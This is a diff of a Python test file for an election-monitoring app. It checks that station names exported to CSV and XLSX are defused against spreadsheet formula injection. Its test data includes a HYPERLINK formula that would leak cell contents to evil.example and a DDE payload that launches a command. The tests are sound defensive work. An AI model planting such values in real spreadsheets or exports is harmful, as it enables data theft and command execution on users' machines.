@@ -169,7 +169,48 @@ def test_an_observers_text_stays_text_in_excel(client, election_night):
     sheet = book.active
     column = [c.value for c in sheet[1]].index("summary") + 1
     cell = sheet.cell(row=2, column=column)
-    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")
+    assert cell.data_type == "s" and cell.value == '\'=HYPERLINK("http://evil.example")'
+
+
+HOSTILE_NAMES = {
+    "D1-001": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "D1-002": "+cmd|' /C calc'!A0",
+    "D2-001": "-2+3",
+    "D2-002": "\t@SUM(1+1)",
+    "D3-001": "+994501234567",
+    "D3-002": "School 5",
+}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_station_names_never_run_as_formulas_in_a_spreadsheet(client, mission, fmt):
+    from pollwatch.elections.models import PollingStation
+
+    for code, name in HOSTILE_NAMES.items():
+        PollingStation.objects.filter(code=code).update(name=name, latitude=-12.5)
+    client.force_login(mission.users["analyst"])
+    frame = read(content(client.get(f"/e/test-election/export/stations.{fmt}")), fmt)
+    names = dict(zip(frame["code"], frame["name"], strict=True))
+    assert names == {
+        "D1-001": '\'=HYPERLINK("http://evil.example/?x="&A1,"open")',
+        "D1-002": "'+cmd|' /C calc'!A0",
+        "D2-001": "'-2+3",
+        "D2-002": "'\t@SUM(1+1)",
+        "D3-001": "+994501234567",  # a phone number or a number is left alone
+        "D3-002": "School 5",
+    }
+    assert frame["latitude"].tolist() == [-12.5] * 6  # numbers stay numbers
+    assert frame["code"].tolist() == sorted(HOSTILE_NAMES)
+
+
+def test_parquet_keeps_the_text_as_recorded(client, mission):
+    from pollwatch.elections.models import PollingStation
+
+    for code, name in HOSTILE_NAMES.items():
+        PollingStation.objects.filter(code=code).update(name=name)
+    client.force_login(mission.users["analyst"])
+    frame = read(content(client.get("/e/test-election/export/stations.parquet")), "parquet")
+    assert dict(zip(frame["code"], frame["name"], strict=True)) == HOSTILE_NAMES
 
 
 def test_an_empty_export_still_has_its_header(client, mission):
